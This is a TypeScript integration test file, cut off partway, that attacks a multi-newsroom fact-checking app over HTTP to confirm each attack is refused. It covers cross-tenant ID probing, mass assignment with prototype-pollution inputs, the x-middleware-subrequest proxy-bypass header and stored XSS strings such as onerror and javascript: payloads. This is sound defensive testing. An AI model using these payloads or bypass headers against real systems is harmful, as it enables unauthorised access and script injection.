// Attacks against the running app, over HTTP, as an attacker would send them: every
// one must be refused and leave nothing behind. One server (scripts/serve.ts, as deployed) on the
// integration database; sessions are minted with the server's secret (a real sign-in
// costs a bcrypt check, and a few tests do sign in for real).
import { randomBytes, randomUUID } from 'node:crypto'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { connect } from 'node:net'
import { parse as parseCsv } from 'csv-parse/sync'
import { marked } from 'marked'
import { encode } from 'next-auth/jwt'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Actor } from '../../lib/auth/actor'
import { LOGIN_THROTTLE } from '../../lib/auth/throttle-policy'
import { markClaim, transitionClaim, updateClaimDetails } from '../../lib/claims'
import { getDb } from '../../lib/db/client'
import type { Role } from '../../lib/generated/prisma/enums'
import { importContent } from '../../lib/import/import-article'
import { addNote } from '../../lib/claims/notes'
import { getLatestRevision } from '../../lib/articles/revisions'
import { addSource } from '../../lib/claims/sources'
import { startAppServer, type AppServer } from '../../scripts/app-server'
import { ensureBuild } from '../../scripts/next-build'
import { HOSTILE_URLS, scriptRisks, XSS_PAYLOADS } from '../support/xss'
import { claimInReview, importDwArticle, makeActor, markDwClaim, resetDatabase, spanOf } from './fixtures'

const PASSWORD = 'integration-password' // what makeActor gives every user
const AUTH_SECRET = randomBytes(32).toString('base64url')
const COOKIE = 'authjs.session-token' // next-auth's session cookie over http
const BCRYPT_HASH = /\$2[aby]\$\d\d\$/
const EMAIL = /[a-z0-9._%+-]+@factmark\.test/gi

let server: AppServer
const A = {} as {
  checker: Actor
  victim: Actor // brute-forced
  checker3: Actor // disabled mid-session
  editor: Actor
  editor2: Actor // demoted mid-session
  admin: Actor
  article: string
  revisionId: string
  inReview: string // a claim IN_REVIEW, submitted by A.checker
  approved: string // a claim approved by A.editor
  note: string
  source: string
}
const B = {} as { checker: Actor; editor: Actor; admin: Actor; article: string; claim: string; note: string }

/** What newsroom A owns that B must never see, and the other way round. */
const A_SECRETS = ['Tillerson', 'Alpha-only note', 'Alpha-only source', 'Alpha Desk']
const B_SECRETS = ['Bravo Harbour Ledger', '4,812 crates', 'Bravo-only note', 'Bravo Desk']

// ---------------------------------------------------------------------------------------------
// Plumbing

/**
 * A session cookie for `user`, made as a sign-in makes one: a UserSession row (begun at
 * `signedInAt`) and next-auth's token naming it (or, for the forgery tests, otherwise).
 */
async function sessionCookie(
  user: { id: string; name?: string; email?: string },
  { secret = AUTH_SECRET, salt = COOKIE, maxAge = 3600, signedInAt = new Date() } = {},
) {
  const sid = randomBytes(24).toString('base64url')
  if (await getDb().user.findUnique({ where: { id: user.id }, select: { id: true } })) {
    await getDb().userSession.create({ data: { id: sid, userId: user.id, createdAt: signedInAt } })
  }
  const claims = { sub: user.id, uid: user.id, name: user.name, email: user.email, sid, signedInAt: signedInAt.getTime() }
  const token = await encode({ token: claims, secret, salt, maxAge })
  return `${COOKIE}=${token}`
}
const cookies = new Map<string, string>()
const as = (actor: Actor) => cookies.get(actor.id)!

interface Sent {
  status: number
  headers: Headers
  text: string
  json: () => any
}

async function send(
  path: string,
  {
    method = 'GET',
    cookie,
    json,
    body,
    headers = {},
    timeout = 20_000,
  }: { method?: string; cookie?: string; json?: unknown; body?: string; headers?: Record<string, string>; timeout?: number } = {},
): Promise<Sent> {
  const init = {
    method,
    redirect: 'manual' as const,
    headers: {
      ...(cookie ? { Cookie: cookie } : {}),
      ...(json !== undefined ? { 'Content-Type': 'application/json' } : {}),
      ...headers,
    },
    body: json !== undefined ? JSON.stringify(json) : body,
    signal: AbortSignal.timeout(timeout),
  }
  let response = await fetch(`${server.url}${path}`, init)
  // Next.js sends an RSC request without its cache-busting `_rsc` parameter to the same address with it.
  const location = response.headers.get('location')
  if (headers.RSC && response.status === 307 && location && new URL(location, server.url).searchParams.has('_rsc')) {
    await response.arrayBuffer()
    response = await fetch(new URL(location, server.url), init)
  }
  const text = await response.text()
  return { status: response.status, headers: response.headers, text, json: () => JSON.parse(text) }
}

function expectSignInRedirect(response: Sent, label = '') {
  expect([302, 303, 307, 308], label).toContain(response.status)
  expect(new URL(response.headers.get('location') ?? '', server.url).pathname, label).toBe('/login')
}

/** Count and checksum of every table's rows (sign-in attempts aside): equal snapshots mean nothing changed. */
async function snapshot() {
  const tables = await getDb().$queryRaw<{ tablename: string }[]>`
    SELECT tablename FROM pg_tables WHERE schemaname = 'public' AND tablename NOT IN ('_prisma_migrations', 'LoginAttempt') ORDER BY tablename`
  const result: Record<string, { rows: number; checksum: string }> = {}
  for (const { tablename } of tables) {
    const [row] = await getDb().$queryRawUnsafe<{ rows: number; checksum: string }[]>(
      `SELECT count(*)::int AS rows, md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) AS checksum FROM "${tablename}" t`,
    )
    result[tablename] = row
  }
  return result
}

/** Users without a password of their own: they share the one makeActor hashed (a bcrypt hash costs a second). */
async function addUser(role: Role, like: Actor, name: string): Promise<Actor> {
  const { passwordHash } = await getDb().user.findUniqueOrThrow({ where: { id: like.id }, select: { passwordHash: true } })
  const email = `${name.split(' ')[0].toLowerCase()}-${randomUUID().slice(0, 6)}@factmark.test`
  const user = await getDb().user.create({ data: { email, name, role, passwordHash, newsroomId: like.newsroomId } })
  return { id: user.id, name, email, role, newsroomId: like.newsroomId }
}

beforeAll(async () => {
  ensureBuild()
  await resetDatabase()
  A.checker = await makeActor('CHECKER', 'Alpha Desk', 'Alma Checker')
  A.victim = await addUser('CHECKER', A.checker, 'Vic Victim')
  A.checker3 = await addUser('CHECKER', A.checker, 'Cleo Checker')
  A.editor = await addUser('EDITOR', A.checker, 'Eda Editor')
  A.editor2 = await addUser('EDITOR', A.checker, 'Ezra Editor')
  A.admin = await addUser('ADMIN', A.checker, 'Ada Admin')
  A.article = await importDwArticle(A.checker)
  A.revisionId = (await getLatestRevision(A.checker, A.article)).id
  A.inReview = (await claimInReview(A.checker, A.article)).id
  A.note = (await addNote(A.checker, A.inReview, { body: 'Alpha-only note: call the ministry back.' })).id
  A.source = (await addSource(A.checker, A.inReview, { url: 'https://alpha.example/source', title: 'Alpha-only source' })).id
  const approved = await claimInReview(A.checker, A.article, 'FALSE')
  A.approved = (await transitionClaim(A.editor, approved.id, { version: approved.version, to: 'APPROVED' })).id

  B.checker = await makeActor('CHECKER', 'Bravo Desk', 'Bo Checker')
  B.editor = await addUser('EDITOR', B.checker, 'Bea Editor')
  B.admin = await addUser('ADMIN', B.checker, 'Ben Admin')
  B.article = (
    await importContent(B.checker.newsroomId, {
      content: 'Bravo Harbour Ledger\n\nThe harbour ledger counted 4,812 crates in March, the port authority said.\n\nRussia was not mentioned.',
      format: 'text',
      meta: { title: 'Bravo Harbour Ledger', publisher: 'Bravo Gazette' },
    })
  ).id
  const revisionB = await getLatestRevision(B.checker, B.article)
  B.claim = (await markClaim(B.checker, B.article, { revisionId: revisionB.id, ...spanOf(revisionB.text, 'counted 4,812 crates') })).id
  B.note = (await addNote(B.checker, B.claim, { body: 'Bravo-only note: the port office confirms.' })).id

  // No background jobs: archiving the sources added here would change rows the refusals must leave alone (lib/evidence has its own tests).
  // As behind one proxy: the sign-in tests name each attempt's address in X-Forwarded-For, as nginx
  // would (without FACTMARK_TRUST_PROXY the socket's address counts, whatever the header says).
  server = await startAppServer({ DATABASE_URL: process.env.DATABASE_URL!, AUTH_SECRET, FACTMARK_JOBS: 'off', FACTMARK_TRUST_PROXY: '1' })
  for (const actor of [...Object.values(A), ...Object.values(B)].filter((v): v is Actor => typeof v === 'object')) {
    cookies.set(actor.id, await sessionCookie(actor))
  }
}, 600_000)

afterAll(async () => {
  await server?.stop()
})

it('the minted sessions work like signed-in ones (the control for everything below)', async () => {
  expect((await send('/api/articles', { cookie: as(A.checker) })).status).toBe(200)
  const page = await send('/articles', { cookie: as(A.checker) })
  expect(page.status).toBe(200)
  expect(page.text).toContain('Tillerson calls out China')
})

// ---------------------------------------------------------------------------------------------
describe("another newsroom's ids", () => {
  const missing = 'cnotarealid0000000000000'
  /** Every way to read or change A's things by id; `id` swaps in a nonexistent id for comparison. */
  const probes = (id: (real: string) => string) =>
    [
      ['GET', `/api/articles/${id(A.article)}/claims`],
      ['POST', `/api/articles/${id(A.article)}/claims`, { revisionId: A.revisionId, start: 0, end: 10 }],
      ['GET', `/api/articles/${id(A.article)}/revisions`],
      [
        'POST',
        `/api/articles/${id(A.article)}/revisions`,
        { baseRevisionId: A.revisionId, doc: { type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Replaced.' }] }] } },
      ],
      ...['md', 'csv', 'json', 'claimreview', 'w3c'].map((format) => ['GET', `/api/articles/${id(A.article)}/export?format=${format}`]),
      [
        'POST',
        `/api/articles/${id(A.article)}/import?format=w3c`,
        { type: 'Annotation', target: { selector: { type: 'TextQuoteSelector', exact: 'Russia was not' } } },
      ],
      ['GET', `/api/articles/${id(A.article)}/events`],
      ['GET', `/api/articles/${id(A.article)}/events?lastEventId=0`],
      ['GET', `/api/articles/${id(A.article)}/presence`],
      ['PUT', `/api/articles/${id(A.article)}/presence`, { connectionId: randomUUID(), claimId: null }],
      ['GET', `/api/claims/${id(A.inReview)}`],
      ['PATCH', `/api/claims/${id(A.inReview)}`, { version: 7, verdict: 'FALSE' }],
      ['GET', `/api/claims/${id(A.inReview)}/history`],
      ['POST', `/api/claims/${id(A.inReview)}/notes`, { body: 'sneaky' }],
      ['POST', `/api/claims/${id(A.inReview)}/sources`, { url: 'https://x.example/', title: 'x' }],
      ['POST', `/api/claims/${id(A.inReview)}/transitions`, { version: 7, to: 'APPROVED' }],
      ['POST', `/api/claims/${id(A.inReview)}/reattach`, { version: 7, revisionId: A.revisionId, start: 0, end: 10 }],
      ['GET', `/api/claims/${id(A.inReview)}/matches`],
      ['POST', `/api/claims/${id(A.inReview)}/links`, { claimId: B.claim }],
      ['POST', `/api/claims/${B.claim}/links`, { claimId: id(A.inReview) }],
      ['PATCH', `/api/notes/${id(A.note)}`, { version: 1, body: 'rewritten' }],
      ['DELETE', `/api/notes/${id(A.note)}`, { version: 1 }],
      ['PATCH', `/api/sources/${id(A.source)}`, { title: 'rewritten' }],
      ['DELETE', `/api/sources/${id(A.source)}`],
      ['PATCH', `/api/admin/members/${id(A.checker.id)}`, { role: 'ADMIN' }],
      ['PATCH', `/api/admin/members/${id(A.checker.id)}`, { disabled: true }],
      ['POST', `/api/admin/members/${id(A.checker.id)}/password-link`],
    ] as [string, string, unknown?][]

  it('answer 404 to every role of newsroom B, exactly as ids that do not exist, and nothing changes', async () => {
    const before = await snapshot()
    const real = probes((realId) => realId)
    const fake = probes(() => missing)
    for (const actor of [B.checker, B.editor, B.admin]) {
      for (const [index, [method, path, json]] of real.entries()) {
        const response = await send(path, { method, cookie: as(actor), json })
        const label = `${actor.role} ${method} ${path}`
        // Members are admin business: to others, /api/admin answers 404 whatever the id.
        expect(response.status, label).toBe(404)
        const control = await send(fake[index][1], { method, cookie: as(actor), json: fake[index][2] })
        expect(control.status, `${label} (nonexistent id)`).toBe(404)
        expect(response.json(), label).toEqual(control.json())
        for (const secret of A_SECRETS) expect(response.text, label).not.toContain(secret)
      }
    }
    expect(await snapshot()).toEqual(before)
  })

  // Issue 16, item 8: saving a revision, marking a claim and the W3C import locked the article row
  // before checking its newsroom, so B waited on A's lock, and the wait told B the id exists.
  it("do not wait on A's locks: 404 at once while A holds its article", async () => {
    const { Client } = await import('pg')
    const holder = new Client({ connectionString: process.env.DATABASE_URL })
    await holder.connect()
    try {
      await holder.query('BEGIN')
      await holder.query('SELECT 1 FROM "Article" WHERE id = $1 FOR UPDATE', [A.article])
      const doc = { type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Replaced.' }] }] }
      for (const [path, json] of [
        [`/api/articles/${A.article}/revisions`, { baseRevisionId: A.revisionId, doc }],
        [`/api/articles/${A.article}/claims`, { revisionId: A.revisionId, start: 0, end: 10 }],
        [
          `/api/articles/${A.article}/import?format=w3c`,
          { type: 'Annotation', target: { selector: { type: 'TextQuoteSelector', exact: 'Russia was not' } } },
        ],
      ] as const) {
        const started = performance.now()
        const response = await send(path, { method: 'POST', cookie: as(B.editor), json, timeout: 3_000 }).catch((error: Error) => error)
        console.info(
          `B's POST ${path.split('/').slice(3).join('/')} while A holds the row: ${response instanceof Error ? response.name : response.status} after ${Math.round(performance.now() - started)} ms`,
        )
        expect(response instanceof Error ? response.name : response.status, path).toBe(404)
      }
    } finally {
      await holder.query('ROLLBACK')
      await holder.end()
    }
  })

  it("answer 404 for A's pages, with no trace of A in the page or its RSC payload", async () => {
    for (const path of [
      `/articles/${A.article}`,
      `/articles/${A.article}/report`,
      `/articles/${A.article}/revisions/1`,
      `/articles/${A.article}?claim=${A.inReview}`,
    ]) {
      for (const headers of [{}, { RSC: '1' }, { RSC: '1', 'Next-Router-Prefetch': '1' }] as Record<string, string>[]) {
        const response = await send(path, { cookie: as(B.admin), headers })
        // Next.js answers an RSC request with 200 and the not-found tree in the payload; a page request with 404.
        // A prefetch gets the route tree only.
        if (headers.RSC && response.status === 200) {
          if (!headers['Next-Router-Prefetch']) expect(response.text).toContain('NEXT_HTTP_ERROR_FALLBACK;404')
        } else expect(response.status, `${path} ${JSON.stringify(headers)}`).toBe(404)
        for (const secret of A_SECRETS) expect(response.text, path).not.toContain(secret)
      }
    }
  })

  it("never find A's claims through search, even by A's article id", async () => {
    for (const query of ['q=Russia', 'q=Tillerson', 'q=ministry', `q=Russia&articleId=${A.article}`, 'q=UN%20resolution']) {
      const response = await send(`/api/search?${query}`, { cookie: as(B.checker) })
      // The search API is being built: until then the route may not exist, which leaks nothing either.
      expect([200, 404, 422], query).toContain(response.status)
      for (const secret of A_SECRETS) expect(response.text, query).not.toContain(secret)
      expect(response.text, query).not.toContain(A.article)
      expect(response.text, query).not.toContain(A.inReview)
    }
    const own = await send('/api/search?q=crates', { cookie: as(B.checker) })
    if (own.status === 200) expect(own.text).toContain(B.claim) // the control: B finds its own claim
  })
})

// ---------------------------------------------------------------------------------------------
describe('mass assignment', () => {
  it('is refused with 422 (strict inputs), and nothing changes', async () => {
    const claim = await markDwClaim(A.checker, A.article, 'China was a helpful partner')
    const before = await snapshot()
    const claimPath = `/api/claims/${claim.id}`
    const attempts: [string, string, unknown, Actor?][] = [
      ['PATCH', claimPath, { version: 1, verdict: 'TRUE', newsroomId: B.checker.newsroomId }],
      ['PATCH', claimPath, { version: 1, status: 'APPROVED' }],
      ['PATCH', claimPath, { version: 1, summary: 'x', approvedById: A.editor.id }],
      ['PATCH', claimPath, { version: 1, summary: 'x', approvedAt: '2020-01-01T00:00:00Z' }],
      ['PATCH', claimPath, { version: 1, summary: 'x', submittedById: A.checker.id }],
      ['PATCH', claimPath, { version: 1, summary: 'x', verdictSetById: A.editor.id }],
      ['PATCH', claimPath, { version: 1, summary: 'x', createdById: A.editor.id }],
      ['PATCH', claimPath, { version: 1, summary: 'x', articleId: B.article }],
      ['PATCH', claimPath, { version: 1, summary: 'x', id: 'another-id' }],
      ['PATCH', claimPath, JSON.parse('{"version":1,"summary":"x","__proto__":{"status":"APPROVED"}}')],
      ['PATCH', claimPath, { version: 1, summary: 'x', constructor: { prototype: { status: 'APPROVED' } } }],
      ['PATCH', claimPath, { version: { gt: 0 }, summary: 'x' }], // a Prisma filter in place of a number
      ['PATCH', claimPath, { version: '1', summary: 'x' }],
      ['PATCH', claimPath, { version: 1.5, summary: 'x' }],
      ['PATCH', claimPath, { version: 1, assigneeId: B.checker.id }], // someone of another newsroom
      ['PATCH', claimPath, { version: 1, verdict: 'ABSOLUTELY_TRUE' }],
      ['POST', `/api/articles/${A.article}/claims`, { revisionId: A.revisionId, start: 0, end: 10, status: 'APPROVED' }],
      ['POST', `/api/articles/${A.article}/claims`, { revisionId: A.revisionId, start: 0, end: 10, newsroomId: B.checker.newsroomId }],
      ['POST', `/api/articles/${A.article}/claims`, { revisionId: A.revisionId, start: 0, end: 10, createdById: A.editor.id }],
      ['POST', `${claimPath}/notes`, { body: 'hi', authorId: A.editor.id }],
      ['POST', `${claimPath}/notes`, { body: 'hi', claimId: B.claim }],
      ['POST', `${claimPath}/notes`, { body: 'hi', parentId: B.note }], // a thread of another newsroom
      ['POST', `${claimPath}/sources`, { url: 'https://x.example/', title: 'x', createdById: A.editor.id }],
      ['POST', `${claimPath}/sources`, { url: 'https://x.example/', title: 'x', claimId: B.claim }],
      ['POST', `${claimPath}/transitions`, { version: 1, to: 'IN_PROGRESS', approvedById: A.editor.id }],
      ['POST', `${claimPath}/transitions`, { version: 1, to: 'IN_PROGRESS', status: 'APPROVED' }],
      ['PATCH', `/api/notes/${A.note}`, { version: 1, body: 'x', authorId: A.editor.id }],
      ['PATCH', `/api/sources/${A.source}`, { title: 'x', claimId: B.claim }],
      ['POST', '/api/articles', { content: 'Text.', format: 'text', keep: [], meta: { title: 'T', newsroomId: B.checker.newsroomId } }],
      ['POST', '/api/articles', { content: 'Text.', format: 'text', keep: [], meta: { title: 'T' }, newsroomId: B.checker.newsroomId }],
      ['PATCH', '/api/account', { name: 'New Name', role: 'ADMIN' }],
      ['PATCH', '/api/account', { name: 'New Name', newsroomId: B.checker.newsroomId }],
      ['PATCH', '/api/account', { name: 'New Name', email: 'takeover@factmark.test' }],
      ['PUT', `/api/articles/${A.article}/presence`, { connectionId: randomUUID(), claimId: null, userId: A.editor.id }],
      ['POST', '/api/admin/members', { name: 'Mole', email: 'mole@factmark.test', role: 'CHECKER', newsroomId: B.checker.newsroomId }, A.admin],
      ['PATCH', `/api/admin/members/${A.checker.id}`, { role: 'EDITOR', newsroomId: B.checker.newsroomId }, A.admin],
      ['PATCH', `/api/admin/members/${A.checker.id}`, { role: 'OWNER' }, A.admin],
    ]
    for (const [method, path, json, actor = A.checker] of attempts) {
      const response = await send(path, { method, cookie: as(actor), json })
      expect(response.status, `${method} ${path} ${JSON.stringify(json)}`).toBe(422)
    }
    // The newsroom settings: a field the form does not have (the account name) is refused too.
    const settings = (await send('/api/admin/settings', { cookie: as(A.admin) })).json().settings
    const { name: _name, ...editable } = settings
    const renamed = await send('/api/admin/settings', { method: 'PUT', cookie: as(A.admin), json: { ...editable, name: 'Renamed Desk' } })
    expect(renamed.status).toBe(422)
    // A claim on another newsroom's revision is refused too.
    const revisionB = await getLatestRevision(B.checker, B.article)
    const onB = await send(`/api/articles/${A.article}/claims`, {
      method: 'POST',
      cookie: as(A.checker),
      json: { revisionId: revisionB.id, start: 0, end: 10 },
    })
    expect(onB.status).toBe(409)

    expect(await snapshot()).toEqual(before)
    expect(await getDb().claim.findUniqueOrThrow({ where: { id: claim.id } })).toMatchObject({
      status: 'UNCHECKED',
      version: 1,
      newsroomId: A.checker.newsroomId,
      approvedById: null,
    })
  })
})

// ---------------------------------------------------------------------------------------------
describe('approving', () => {
  it('a checker calling the approve route directly gets 403, and nothing changes', async () => {
    const claim = await getDb().claim.findUniqueOrThrow({ where: { id: A.inReview } })
    expect(claim.status).toBe('IN_REVIEW')
    const before = await snapshot()
    for (const checker of [A.checker, A.checker3]) {
      for (const json of [
        { version: claim.version, to: 'APPROVED' },
        { version: claim.version, to: 'APPROVED', comment: 'lgtm' },
        { version: claim.version, to: 'CHANGES_REQUESTED', comment: 'redo' },
      ]) {
        const response = await send(`/api/claims/${A.inReview}/transitions`, { method: 'POST', cookie: as(checker), json })
        expect(response.status, `${checker.name} ${json.to}`).toBe(403)
        expect(response.json().error.code).toBe('FORBIDDEN')
      }
    }
    expect(await snapshot()).toEqual(before)
  })

  it('an editor cannot approve a verdict they set themselves', async () => {
    const claim = await markDwClaim(A.editor, A.article, 'Russia was not')
    await transitionClaim(A.editor, claim.id, { version: 1, to: 'IN_PROGRESS' })
    await updateClaimDetails(A.editor, claim.id, { version: 2, verdict: 'TRUE', summary: 'Self-checked.' })
    await addSource(A.editor, claim.id, { url: 'https://alpha.example/self', title: 'Self' })
    const inReview = await transitionClaim(A.editor, claim.id, { version: 4, to: 'IN_REVIEW' })
    const before = await snapshot()
    const response = await send(`/api/claims/${claim.id}/transitions`, {
      method: 'POST',
      cookie: as(A.editor),
      json: { version: inReview.version, to: 'APPROVED' },
    })
    expect(response.status).toBe(403)
    expect(await snapshot()).toEqual(before)
  })

  // Issue 16, item 6: an editor rewrote the summary of a claim in review, then approved it (200).
  it('an editor cannot approve what they changed since it was submitted: summary, sources, claimant, claim date', async () => {
    const edits: [string, (claimId: string, version: number) => Promise<unknown>][] = [
      ['summary', (id, version) => send(`/api/claims/${id}`, { method: 'PATCH', cookie: as(A.editor), json: { version, summary: 'My words now.' } })],
      [
        'claimant',
        (id, version) => send(`/api/claims/${id}`, { method: 'PATCH', cookie: as(A.editor), json: { version, claimant: 'Someone else' } }),
      ],
      [
        'claim date',
        (id, version) => send(`/api/claims/${id}`, { method: 'PATCH', cookie: as(A.editor), json: { version, claimDate: '2017-12-14' } }),
      ],
      [
        'source',
        (id) =>
          send(`/api/claims/${id}/sources`, { method: 'POST', cookie: as(A.editor), json: { url: 'https://alpha.example/mine', title: 'Mine' } }),
      ],
    ]
    for (const [label, edit] of edits) {
      const claim = await claimInReview(A.checker, A.article)
      expect(((await edit(claim.id, claim.version)) as Sent).status, label).toBeLessThan(300)
      const { version } = await getDb().claim.findUniqueOrThrow({ where: { id: claim.id } })
      const before = await snapshot()
      const response = await send(`/api/claims/${claim.id}/transitions`, { method: 'POST', cookie: as(A.editor), json: { version, to: 'APPROVED' } })
      expect(response.status, label).toBe(403)
      expect(await snapshot(), label).toEqual(before)
      // Another editor, who changed nothing, may (the control).
      const other = await send(`/api/claims/${claim.id}/transitions`, { method: 'POST', cookie: as(A.admin), json: { version, to: 'APPROVED' } })
      expect(other.status, label).toBe(200)
    }
  })

  it('changing the claimant or claim date of an approved claim voids the approval', async () => {
    for (const change of [{ claimant: 'A new claimant' }, { claimDate: '2017-12-01' }]) {
      const claim = await claimInReview(A.checker, A.article)
      const approved = await transitionClaim(A.editor, claim.id, { version: claim.version, to: 'APPROVED' })
      const response = await send(`/api/claims/${claim.id}`, {
        method: 'PATCH',
        cookie: as(A.checker),
        json: { version: approved.version, ...change },
      })
      expect(response.status).toBe(200)
      const after = await getDb().claim.findUniqueOrThrow({ where: { id: claim.id } })
      expect(after.status, JSON.stringify(change)).toBe('IN_PROGRESS')
      expect(after.approvedById).toBeNull()
    }
  })

  it('there is no approve server action: a made-up Next-Action header changes nothing', async () => {
    const withActions = ['app', 'components', 'lib']
      .flatMap((dir) => readdirSync(dir, { recursive: true, encoding: 'utf8' }).map((file) => join(dir, file)))
      .filter((file) => /\.tsx?$/.test(file) && /["']use server["']/.test(readFileSync(file, 'utf8')))
      .sort()
    expect(withActions).toEqual(['app/layout.tsx', 'app/login/actions.ts']) // sign out and sign in, nothing else
    const before = await snapshot()
    for (const path of ['/review', `/articles/${A.article}`, '/articles']) {
      const response = await send(path, {
        method: 'POST',
        cookie: as(A.checker),
        headers: { 'Next-Action': 'a'.repeat(42), 'Content-Type': 'text/plain;charset=UTF-8', Origin: server.url },
        body: JSON.stringify([{ claimId: A.inReview, to: 'APPROVED' }]),
      })
      expect(response.status, path).toBeGreaterThanOrEqual(400)
    }
    expect(await snapshot()).toEqual(before)
  })
})

// ---------------------------------------------------------------------------------------------
describe('proxy bypass headers', () => {
  const SUBREQUEST = [
    'middleware',
    'middleware:middleware:middleware:middleware:middleware',
    'proxy:proxy:proxy:proxy:proxy',
    'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware',
    'src/proxy:src/proxy:src/proxy:src/proxy:src/proxy',
    'pages/_middleware',
  ]
  const PAGES = () => [
    '/articles',
    `/articles/${A.article}`,
    `/articles/${A.article}/report`,
    '/review',
    '/reports',
    '/admin',
    '/account',
    '/articles/new',
  ]

  it('x-middleware-subrequest does not get a signed-out visitor past the sign-in', async () => {
    for (const value of SUBREQUEST) {
      for (const path of PAGES()) {
        const response = await send(path, { headers: { 'x-middleware-subrequest': value } })
        expectSignInRedirect(response, `${value} ${path}`)
        for (const secret of A_SECRETS) expect(response.text).not.toContain(secret)
      }
      for (const path of ['/api/articles', `/api/claims/${A.inReview}`, `/api/articles/${A.article}/export?format=json`]) {
        const response = await send(path, { headers: { 'x-middleware-subrequest': value } })
        expect(response.status, `${value} ${path}`).toBe(401)
      }
      // Signed in elsewhere: still 404.
      const other = await send(`/articles/${A.article}`, { cookie: as(B.checker), headers: { 'x-middleware-subrequest': value } })
      expect(other.status).toBe(404)
    }
  })

  it('RSC and prefetch requests of a signed-out visitor carry no data', async () => {
    const stateTree = encodeURIComponent(JSON.stringify(['', { children: ['articles', { children: ['__PAGE__', {}] }] }, null, null, true]))
    const variants: Record<string, string>[] = [
      { RSC: '1' },
      { RSC: '1', 'Next-Router-Prefetch': '1' },
      { RSC: '1', 'Next-Router-State-Tree': stateTree },
      { RSC: '1', 'Next-Router-Prefetch': '1', 'Next-Router-Segment-Prefetch': '/_tree' },
    ]
    for (const headers of variants) {
      for (const path of [...PAGES(), `/articles?_rsc=abc12`]) {
        const response = await send(path, { headers })
        expect(response.status, `${path} ${JSON.stringify(headers)}`).not.toBe(200)
        for (const secret of A_SECRETS) expect(response.text).not.toContain(secret)
        expect(response.text).not.toMatch(EMAIL)
      }
    }
  })
})

// ---------------------------------------------------------------------------------------------
describe('what pages and their RSC payloads give away', () => {
  const pagesOf = (side: { article: string }) => [
    '/articles',
    `/articles/${side.article}`,
    `/articles/${side.article}/report`,
    `/articles/${side.article}/revisions/1`,
    '/review',
    '/review?status=APPROVED',
    '/reports',
    '/search?q=Russia',
    '/admin',
    '/account',
    '/articles/new',
  ]

  it('no password hashes, no other newsroom, and emails only where they are meant to be', async () => {
    const members = async (newsroomId: string) =>
      (await getDb().user.findMany({ where: { newsroomId }, select: { email: true } })).map((u) => u.email)
    const emailsOfA = await members(A.checker.newsroomId)
    const emailsOfB = await members(B.checker.newsroomId)
    const cases = [
      { actors: [A.checker, A.editor, A.admin], pages: pagesOf(A), foreign: [...B_SECRETS, ...emailsOfB], own: emailsOfA },
      { actors: [B.checker, B.admin], pages: pagesOf(B), foreign: [...A_SECRETS, ...emailsOfA], own: emailsOfB },
    ]
    let checked = 0
    for (const { actors, pages, foreign, own } of cases) {
      for (const actor of actors) {
        for (const path of pages) {
          for (const headers of [{}, { RSC: '1' }] as Record<string, string>[]) {
            const response = await send(path, { cookie: as(actor), headers })
            const label = `${actor.name} ${path} ${JSON.stringify(headers)}`
            expect([200, 404], label).toContain(response.status)
            expect(response.text, label).not.toMatch(BCRYPT_HASH)
            expect(response.text, label).not.toMatch(/passwordHash/i)
            for (const secret of foreign) expect(response.text, label).not.toContain(secret)
            const emails = new Set((response.text.match(EMAIL) ?? []).map((email) => email.toLowerCase()))
            const allowed = path === '/account' ? [actor.email] : path === '/admin' && actor.role === 'ADMIN' && response.status === 200 ? own : []
            for (const email of emails) expect(allowed, `${label} shows ${email}`).toContain(email)
            if (path === '/account') expect(emails, label).toContain(actor.email)
            checked++
          }
        }
      }
    }
    expect(checked).toBeGreaterThan(100)
    // Signed out: the sign-in page shows nobody.
    const login = await send('/login')
    expect(login.text).not.toMatch(EMAIL)
  })

  it('the API never hands out a user row: people are ids and names', async () => {
    for (const path of [
      `/api/claims/${A.inReview}`,
      `/api/claims/${A.inReview}/history`,
      `/api/articles/${A.article}/claims`,
      `/api/articles/${A.article}/revisions`,
      '/api/articles',
    ]) {
      const response = await send(path, { cookie: as(A.checker) })
      expect(response.status).toBe(200)
      expect(response.text, path).not.toMatch(BCRYPT_HASH)
      expect(response.text, path).not.toMatch(EMAIL)
      expect(response.text, path).not.toMatch(/passwordHash|"role"/)
    }
  })
})

// ---------------------------------------------------------------------------------------------
describe('stored XSS, CSV injection and JSON-LD', () => {
  const X = {} as { article: string; claim: string; formulaClaim: string; payloadArticles: string[] }
  const SUMMARY =
    '</script><script>alert(1)</script> \u2028 <!--<script>alert(1)</script>--> \u2029 <img src=x onerror=alert(1)> <a href="javascript:alert(1)">x</a>'
  const html = [
    '<!doctype html><html><head><title>XSS lab</title><meta property="og:url" content="javascript:alert(1)"></head><body><article>',
    '<h1>XSS lab</h1>',
    '<p>=1+1 is a claim that starts like a formula.</p>',
    '<p>The minister said the bridge cost 40 million euros.</p>',
    '<p><a href="https://ok.example/report">A good link</a> stays.</p>',
    // An unclosed <noscript>, <xmp> or <svg> swallows what follows: each payload is also imported on its own below.
    ...XSS_PAYLOADS.map((payload, i) => `<p>Paragraph ${i} carries ${payload} and ends here.</p>`),
    '</article></body></html>',
  ].join('\n')

  beforeAll(async () => {
    const checker = as(A.checker)
    const imported = await send('/api/articles', {
      method: 'POST',
      cookie: checker,
      json: {
        content: html,
        format: 'html',
        fileName: '<img src=x onerror=alert(1)>.html',
        keep: [],
        meta: {
          title: 'XSS lab <img src=x onerror=alert(1)> </script><script>alert(1)</script>',
          publisher: '<svg onload=alert(1)>',
          url: 'https://news.example/xss?a="><script>alert(1)</script>',
        },
      },
    })
    expect(imported.status, imported.text).toBe(201)
    X.article = imported.json().article.id
    X.payloadArticles = []
    for (const [i, payload] of XSS_PAYLOADS.entries()) {
      const one = await send('/api/articles', {
        method: 'POST',
        cookie: checker,
        json: {
          content: `<p>Payload ${i}: ${payload} after.</p><p>Closing words ${i}.</p>`,
          format: 'html',
          keep: [],
          meta: { title: `XSS payload ${i}` },
        },
      })
      expect(one.status, `${payload}: ${one.text}`).toBe(201)
      X.payloadArticles.push(one.json().article.id)
    }
    const revision = await getLatestRevision(A.checker, X.article)
    const mark = async (words: string) => {
      const response = await send(`/api/articles/${X.article}/claims`, {
        method: 'POST',
        cookie: checker,
        json: { revisionId: revision.id, ...spanOf(revision.text, words), exact: words },
      })
      expect(response.status, response.text).toBe(201)
